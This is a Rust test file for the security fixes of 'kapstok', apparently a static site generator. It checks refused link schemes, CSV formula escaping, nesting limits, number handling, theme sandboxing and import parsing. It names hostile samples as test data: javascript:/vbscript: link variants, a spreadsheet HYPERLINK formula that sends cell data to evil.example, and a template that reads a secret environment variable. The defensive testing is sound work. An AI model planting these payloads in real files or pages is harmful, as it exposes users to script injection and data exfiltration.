//! Issue 18, URLs and smaller holes: link destinations and URL fields take
//! only `http:`, `https:`, `mailto:` and links inside the site; open-data CSV
//! cells are not run as formulas; deeply nested Markdown, `NaN` and infinite
//! numbers are content errors; a theme cannot read the environment; a
//! diagnostic on a very long line stays cheap; `import` keeps a title such as
//! `Null` as text. Each test runs the real binary.

use std::fs;
use std::path::Path;
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::support::{Run, blocks, copy_to_temp, fixture, kapstok, kapstok_env};

/// `kapstok check --root . --format json` in `dir`: the run and its findings.
fn check_json(dir: &Path) -> (Run, Vec<Value>) {
    let run = kapstok(dir, &["check", "--root", ".", "--format", "json"]);
    let findings = run.json().as_array().unwrap_or_else(|| panic!("not a JSON array:\n{}", run.stdout)).clone();
    (run, findings)
}

/// `file:line:col` of every finding of `kind`, in the order reported.
fn places(findings: &[Value], kind: &str) -> Vec<String> {
    findings
        .iter()
        .filter(|f| f["kind"] == kind)
        .map(|f| format!("{}:{}:{}", f["file"].as_str().unwrap_or("?"), f["line"], f["column"]))
        .collect()
}

fn build(dir: &Path) -> Run {
    kapstok(dir, &["build", "--root", "."])
}

/// A copy of the minimal fixture with one more file.
fn minimal_with(rel: &str, text: &str) -> tempfile::TempDir {
    let tmp = copy_to_temp(&fixture("minimal"));
    let path = tmp.path().join(rel);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
    tmp
}

// ---------------------------------------------------------------- URLs

/// Every refused destination is an error at the destination itself, in
/// Markdown bodies (inline links and images, autolinks, reference
/// definitions used or not, entity-encoded and tab-split schemes, upper
/// case, a leading space), in an action's internal note, an inventory note,
/// a claim's `url` and `accessibility.enforcement_url`; the accepted links of
/// the same files are not reported, and nothing is built.
#[test]
fn refused_link_schemes_are_content_errors_at_the_link() {
    let dir = fixture("bad-url");
    let (run, findings) = check_json(&dir);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert_eq!(
        places(&findings, "bad-url"),
        [
            "content/actions/papier.md:6:35",   // internal_note: data:
            "content/actions/papier.md:11:14",  // javascript:
            "content/actions/papier.md:11:53",  // JAVASCRIPT:
            "content/actions/papier.md:13:16",  // java&#x73;cript:
            "content/actions/papier.md:13:51",  // jav&#9;ascript:
            "content/actions/papier.md:15:12",  // image data:
            "content/actions/papier.md:15:52",  // autolink vbscript:
            "content/actions/papier.md:17:34",  // < javascript:...>
            "content/actions/papier.md:19:6",   // [r]: vbscript: (used)
            "content/actions/papier.md:20:15",  // [ongebruikt]: file: (unused)
            "content/claims/claims.yaml:5:8",   // url: javascript:
            "content/inventory/foto.yaml:5:20", // note: vbscript:
            "content/pages/over.md:5:29",       // tel: in a quote
            "content/site.yaml:12:20",          // enforcement_url: "  JavaScript:..."
        ],
        "{}",
        run.stderr
    );
    // Nothing else is wrong with the fixture: the good links pass.
    assert!(findings.iter().all(|f| f["kind"] == "bad-url"), "{findings:#?}");
    let human = kapstok(&dir, &["check", "--root", "."]);
    let block = blocks(&human.stderr)
        .into_iter()
        .find(|b| b.contains("--> content/actions/papier.md:13:51"))
        .unwrap_or_else(|| panic!("{}", human.stderr));
    assert!(block.starts_with("error[bad-url]: the link `jav\\tascript:alert(4)` is refused: `javascript:` links"), "{block}");
    assert!(block.contains("= help: links may use https://, http:// or mailto:"), "{block}");

    let tmp = copy_to_temp(&dir);
    let run = build(tmp.path());
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(!tmp.path().join("output").exists(), "a site was written");
}

/// Raw HTML gets the same schemes: an image from `ftp:` (which ammonia's
/// default list lets through) is something the sanitiser removes, so the
/// `raw-html-removed` rule reports it; one from `https:` is kept.
#[test]
fn raw_html_links_take_the_same_schemes() {
    let tmp = minimal_with(
        "content/pages/foto.md",
        "---\ntitle: Foto\naudience: public\n---\n<img src=\"ftp://ftp.proef.be/a.png\" alt=\"a\">\n\n<img src=\"https://www.proef.be/b.png\" alt=\"b\">\n",
    );
    let (_, findings) = check_json(tmp.path());
    let removed: Vec<&Value> = findings.iter().filter(|f| f["rule"] == "raw-html-removed").collect();
    assert_eq!(removed.len(), 1, "{findings:#?}");
    assert!(removed[0]["message"].as_str().unwrap().contains("ftp:"), "{removed:#?}");
}

// ---------------------------------------------------------------- CSV

/// Text cells of the open-data CSV files that start with `=`, `+`, `-`, `@`,
/// a tab or a carriage return get a `'` in front, the value kept after it;
/// numbers in numeric columns (`-3`) stay numbers.
#[test]
fn open_data_csv_cells_are_not_formulas() {
    let tmp = copy_to_temp(&fixture("csv-formulas"));
    let run = build(tmp.path());
    assert_eq!(run.code, 0, "{}", run.stderr);
    let data = tmp.path().join("output/public/data");
    let read = |name: &str| -> Vec<csv::StringRecord> {
        let mut r = csv::Reader::from_path(data.join(name)).unwrap();
        let header = r.headers().unwrap().clone();
        let mut rows = vec![header];
        rows.extend(r.records().map(Result::unwrap));
        rows
    };
    let numeric = ["percent", "baseline", "target", "latest_value", "value"];
    for name in ["actions.csv", "progress.csv", "inventory.csv", "claims.csv"] {
        let rows = read(name);
        for row in &rows[1..] {
            for (col, cell) in rows[0].iter().zip(row.iter()) {
                let dangerous = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
                let number = numeric.contains(&col) && cell.parse::<f64>().is_ok();
                assert!(!dangerous || number, "{name}, column {col}: {cell:?} would run as a formula");
            }
        }
    }
    let actions = read("actions.csv");
    let cell = |rows: &[csv::StringRecord], col: &str| {
        let i = rows[0].iter().position(|h| h == col).unwrap();
        rows[1][i].to_owned()
    };
    assert_eq!(cell(&actions, "title"), "'=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Klik hier\")");
    assert_eq!(cell(&actions, "department"), "'@Milieudienst");
    assert_eq!(cell(&actions, "indicator"), "'+Temperatuur in de raadzaal");
    assert_eq!(cell(&actions, "unit"), "'-graden");
    assert_eq!(cell(&actions, "baseline"), "-3");
    assert_eq!(cell(&actions, "target"), "-1.5");
    assert!(cell(&actions, "description").starts_with("'- Eerste punt"));
    assert_eq!(cell(&read("progress.csv"), "value"), "-2");
    assert_eq!(cell(&read("inventory.csv"), "title"), "'\r=1+1");
    assert_eq!(cell(&read("inventory.csv"), "note"), "'-2 dagen per week");
    assert!(cell(&read("claims.csv"), "text").starts_with("'@SUM(A1:A9)"));
    // The JSON files keep the values as they are.
    let json: Value = serde_json::from_slice(&fs::read(data.join("actions.json")).unwrap()).unwrap();
    assert!(json.to_string().contains("\"=HYPERLINK("), "{json}");
}

// ---------------------------------------------------------------- nesting

/// Markdown nested thousands deep (quotes, list levels in one line, raw
/// `<div>`s) is a content error at the place where it gets too deep, found
/// at once: the sanitiser never sees it.
#[test]
fn deeply_nested_markdown_is_refused_quickly() {
    let cases = [
        (">".repeat(20_000) + " diep\n", "content/pages/diep.md:5:101"),
        ("- ".repeat(20_000) + "diep\n", "content/pages/diep.md:5:101"),
        ("<div>".repeat(20_000) + "diep\n", "content/pages/diep.md:5:1"),
    ];
    for (body, at) in cases {
        let tmp = minimal_with("content/pages/diep.md", &format!("---\ntitle: Diep\naudience: public\n---\n{body}"));
        let started = Instant::now();
        let run = build(tmp.path());
        let took = started.elapsed();
        assert_eq!(run.code, 1, "{}", run.stderr);
        let block = blocks(&run.stderr)
            .into_iter()
            .find(|b| b.starts_with("error[nesting-too-deep]: "))
            .unwrap_or_else(|| panic!("no nesting-too-deep error:\n{}", run.stderr));
        assert!(block.contains(&format!("--> {at}\n")), "{block}");
        assert!(block.contains("= help: flatten"), "{block}");
        assert!(took < Duration::from_secs(20), "took {took:?}");
        assert!(!tmp.path().join("output").exists());
    }
    // Nesting a real text uses is fine.
    let tmp = minimal_with("content/pages/diep.md", &format!("---\ntitle: Diep\naudience: public\n---\n{} genoeg\n", ">".repeat(40)));
    let run = build(tmp.path());
    assert_eq!(run.code, 0, "{}", run.stderr);
}

// ---------------------------------------------------------------- numbers

/// `.nan`, `.inf`, `-.Inf`, a number beyond f64 (`1e999`) are `bad-value`
/// at the value, in an indicator, progress values and session hours; a plain
/// `NaN` is text where a number is expected.
#[test]
fn nan_and_infinite_numbers_are_content_errors() {
    let (run, findings) = check_json(&fixture("bad-number"));
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert_eq!(
        places(&findings, "bad-value"),
        [
            "content/actions/meten.md:7:13",
            "content/actions/meten.md:8:11",
            "content/actions/meten.md:11:12",
            "content/actions/meten.md:13:12",
            "content/sessions.yaml:4:10",
        ],
        "{}",
        run.stderr
    );
    assert_eq!(places(&findings, "wrong-type"), ["content/actions/meten.md:15:12"], "{}", run.stderr);
    let human = kapstok(&fixture("bad-number"), &["check", "--root", "."]);
    assert!(human.stderr.contains("error[bad-value]: `.nan` is not a number kapstok can use"), "{}", human.stderr);
}

// ---------------------------------------------------------------- themes

/// A theme template calling `get_env` fails the build with a template error
/// naming the function; the variable's value is written nowhere.
#[test]
fn a_theme_cannot_read_environment_variables() {
    let tmp = copy_to_temp(&fixture("minimal"));
    let page = tmp.path().join("themes/lek/templates/404.html");
    fs::create_dir_all(page.parent().unwrap()).unwrap();
    fs::write(&page, "<p>{{ get_env(name=\"KAPSTOK_TEST_SECRET\") }}</p>\n").unwrap();
    let site = tmp.path().join("content/site.yaml");
    let yaml = fs::read_to_string(&site).unwrap();
    fs::write(&site, format!("{yaml}theme: lek\n")).unwrap();
    let run = kapstok_env(tmp.path(), &["build", "--root", "."], &[("KAPSTOK_TEST_SECRET", "geheim-7f3a9c")]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stderr.contains("template-error") && run.stderr.contains("get_env"), "{}", run.stderr);
    assert!(!run.stderr.contains("geheim-7f3a9c") && !run.stdout.contains("geheim-7f3a9c"));
    for entry in walkdir::WalkDir::new(tmp.path()).into_iter().filter_map(Result::ok).filter(|e| e.file_type().is_file()) {
        let bytes = fs::read(entry.path()).unwrap();
        assert!(!String::from_utf8_lossy(&bytes).contains("geheim-7f3a9c"), "{} holds the secret", entry.path().display());
    }
}

// ---------------------------------------------------------------- long lines

/// A diagnostic on a 5 MB line quotes the part around the span with the
/// file's own line and column; 8,000 errors on one long line take time in
/// proportion, not the square (two minutes before, well under a second now).
#[test]
fn diagnostics_on_very_long_lines_quote_around_the_span() {
    let text = "a".repeat(5 << 20);
    let tmp = minimal_with("content/claims/lang.yaml", &format!("- {{id: lang, text: \"{text}\", kind: belofte, actions: [papier]}}\n"));
    let run = kapstok(tmp.path(), &["check", "--root", "."]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let block = blocks(&run.stderr).into_iter().find(|b| b.starts_with("error[bad-value]")).unwrap();
    let col = "- {id: lang, text: \"".len() + text.len() + "\", kind: ".len() + 1;
    assert!(block.contains(&format!("--> content/claims/lang.yaml:1:{col}\n")), "{block}");
    assert!(block.contains("kind: belofte, actions: [papier]}") && block.contains("^^^^^^^"), "{block}");
    assert!(block.len() < 2000, "{} bytes quoted", block.len());

    let items: Vec<String> = (0..8000).map(|i| format!("{{id: c{i}, text: Tekst nummer {i}, kind: belofte, actions: [papier]}}")).collect();
    let line = format!("[{}]\n", items.join(", "));
    fs::write(tmp.path().join("content/claims/lang.yaml"), &line).unwrap();
    let started = Instant::now();
    let run = kapstok(tmp.path(), &["check", "--root", "."]);
    let took = started.elapsed();
    assert_eq!(run.code, 1);
    let found = blocks(&run.stderr).into_iter().filter(|b| b.starts_with("error[bad-value]")).collect::<Vec<_>>();
    assert_eq!(found.len(), 8000);
    let last = line.rfind("belofte").unwrap() + 1;
    assert!(found[7999].contains(&format!("--> content/claims/lang.yaml:1:{last}\n")), "{}", found[7999]);
    assert!(found[7999].contains("{id: c7999, text: Tekst nummer 7999, kind: belofte"), "{}", found[7999]);
    assert!(took < Duration::from_secs(30), "8000 findings on one line took {took:?}");
}

// ---------------------------------------------------------------- import

/// Titles YAML would read as nothing, a yes/no or a number are imported
/// as text (their ids too: `null`, `true`, `1e3`), and the project checks.
#[test]
fn import_keeps_titles_that_look_like_yaml_values() {
    let tmp = copy_to_temp(&fixture("import"));
    let titles = ["Null", "null", "NULL", "~", "true", "yes", "No", "on", "1e3", ".inf", "-.inf", ".nan", "0x1F", "0o17", "12.000"];
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (c, h) in ["Titel", "Soort", "Bron"].iter().enumerate() {
        sheet.write_string(0, c as u16, *h).unwrap();
    }
    for (r, title) in titles.iter().enumerate() {
        let r = r as u32 + 1;
        sheet.write_string(r, 0, *title).unwrap();
        sheet.write_string(r, 1, "Actie").unwrap();
        sheet.write_string(r, 2, "Beleidsnota").unwrap();
    }
    book.save(tmp.path().join("waarden.xlsx")).unwrap();
    let run = kapstok(tmp.path(), &["import", "inventory", "waarden.xlsx"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let yaml = fs::read_to_string(tmp.path().join("content/inventory/waarden.yaml")).unwrap();
    let items: Value = serde_saphyr::from_str(&yaml).unwrap_or_else(|e| panic!("{e}\n{yaml}"));
    let read: Vec<&str> = items.as_array().unwrap().iter().map(|i| i["title"].as_str().unwrap_or_else(|| panic!("{i}"))).collect();
    assert_eq!(read, titles, "{yaml}");
    assert!(items.as_array().unwrap().iter().all(|i| i["id"].is_string()), "{yaml}");
    let (check, findings) = check_json(tmp.path());
    let errors: Vec<&Value> = findings.iter().filter(|f| f["rule"] == "content-error").collect();
    assert!(errors.is_empty(), "{errors:#?}\n{}", check.stderr);
}
